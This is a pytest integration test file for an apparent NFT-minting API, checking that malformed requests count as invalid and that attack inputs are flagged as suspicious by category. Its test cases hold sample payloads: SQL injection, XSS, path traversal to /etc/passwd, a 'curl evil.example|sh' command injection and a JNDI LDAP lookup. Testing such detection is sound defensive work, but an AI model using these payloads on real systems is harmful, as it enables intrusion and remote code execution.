"""Through the app: an ordinary 422 is counted as invalid, never as suspicious; an attack class
in any part of the request is counted as suspicious (which the security alerts read)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from sphinxctl import metrics
from sphinxctl.validation import ATTACK_CATEGORIES
from tests.support.api_env import auth, memory_app, tokens_for

pytestmark = pytest.mark.integration  # the offline project's config names a real Redis

MINT = "/api/v1/nfts/ethereum/mint"
ALICE = "0x70997970C51812dc3A010C7d01b50e0d17dc79C8"


@pytest.fixture
def client(offline_project: tuple[Path, Any]) -> Iterator[TestClient]:
    root, settings = offline_project
    with TestClient(memory_app(root, settings, poll_interval=3600)) as test_client:
        yield test_client


@pytest.fixture
def minter(offline_project: tuple[Path, Any]) -> dict[str, str]:
    root, settings = offline_project
    return auth(tokens_for(settings, root)["minter"])


def _suspicious() -> dict[str, float]:
    return {
        c: float(
            metrics.REGISTRY.get_sample_value("sphinxos_suspicious_requests_total", {"category": c})
            or 0.0
        )
        for c in ATTACK_CATEGORIES
    }


def _invalid() -> float:
    return float(metrics.REGISTRY.get_sample_value("sphinxos_invalid_requests_total") or 0.0)


@pytest.mark.parametrize(
    "body",
    [
        {"recipient": ALICE, "phi_score": 1001},
        {"recipient": ALICE.lower()[:-1], "phi_score": 500},
        {"recipient": "0x70997970C51812dc3A010C7d01b50e0d17dc79c8", "phi_score": 500},
        {"recipient": ALICE},
        {"recipient": ALICE, "phi_score": "high"},
    ],
)
def test_an_ordinary_malformed_request_is_not_suspicious(
    client: TestClient, minter: dict[str, str], body: dict[str, Any]
) -> None:
    before, invalid = _suspicious(), _invalid()
    response = client.post(MINT, headers=minter, json=body)
    assert response.status_code == 422
    assert response.json()["details"]["category"] == "other"
    assert _suspicious() == before
    assert _invalid() == invalid + 1


@pytest.mark.parametrize(
    ("body", "category"),
    [
        ({"recipient": "1' OR '1'='1", "phi_score": 500}, "sql-injection"),
        ({"recipient": "<svg onload=alert(1)>", "phi_score": 500}, "xss"),
        ({"recipient": "../../etc/passwd", "phi_score": 500}, "path-traversal"),
        ({"recipient": "$(curl evil.example|sh)", "phi_score": 500}, "command-injection"),
        ({"recipient": "${jndi:ldap://evil.example/a}", "phi_score": 500}, "template-injection"),
        ({"recipient": ALICE, "phi_score": 2**256}, "overflow"),
    ],
)
def test_each_attack_class_is_suspicious(
    client: TestClient, minter: dict[str, str], body: dict[str, Any], category: str
) -> None:
    before, invalid = _suspicious(), _invalid()
    response = client.post(MINT, headers=minter, json=body)
    assert response.status_code == 422
    assert response.json()["details"]["category"] == category
    after = _suspicious()
    assert {c: after[c] - before[c] for c in after if after[c] != before[c]} == {category: 1}
    assert _invalid() == invalid
